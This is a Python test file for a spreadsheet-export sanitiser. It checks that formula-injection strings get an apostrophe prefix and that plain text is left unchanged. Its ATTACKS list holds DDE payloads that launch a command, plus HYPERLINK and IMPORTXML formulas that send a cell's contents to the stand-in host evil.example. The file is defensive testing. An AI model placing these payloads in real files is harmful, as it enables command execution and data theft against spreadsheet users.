"""Texts that a spreadsheet would run: the known attacks, and that rows and single texts are treated alike."""

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from import_export.exports.harmless import harmless, harmless_texts

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"klik\")",
    "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    # LibreOffice leaves the zero bytes out, and runs the rest.
    "\x00=1+1",
    "\x00 \x01=1+1",
]  # fmt: skip
PLAIN = [
    "",
    "kopi",
    "1-2",
    "a=b",
    "'kutip'",
    " x",
    "\nx",
    "#kopi",
    "1+1",
    "(=1)",
    "50%",
    "kopi @ rumah",
    "👍 = ya",
    "–5",
]
TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
NEARLY = st.text("=+-@\t\r\n '\"\x00\x0b\x7f\xa0\u2000\u200b\u3000\ufeff＝＋－＠ax").map(str)


def in_rows(texts: list[str | None]) -> list[str | None]:
    frame = pl.DataFrame({"text": texts}, schema={"text": pl.String})
    return frame.select(harmless_texts(pl.col("text")).alias("text"))["text"].to_list()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gets_an_apostrophe(attack: str) -> None:
    assert harmless(attack) == f"'{attack}"


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(texts=st.lists(TEXTS | NEARLY | st.none()))
@example(texts=[*ATTACKS, *PLAIN, None])
def test_rows_are_treated_as_single_texts_are(texts: list[str | None]) -> None:
    assert in_rows(texts) == [None if text is None else harmless(text) for text in texts]


@given(text=TEXTS | NEARLY)
def test_a_text_that_is_harmless_is_left_alone_or_got_one_sign(text: str) -> None:
    assert harmless(text) in (text, f"'{text}")


@given(text=TEXTS | NEARLY)
def test_the_first_sign_of_a_formula_is_never_what_a_program_reads_first(text: str) -> None:
    seen = harmless(text).lstrip("\x00 \n\xa0\ufeff")
    assert not seen.startswith(("=", "+", "-", "@", "\t", "\r"))
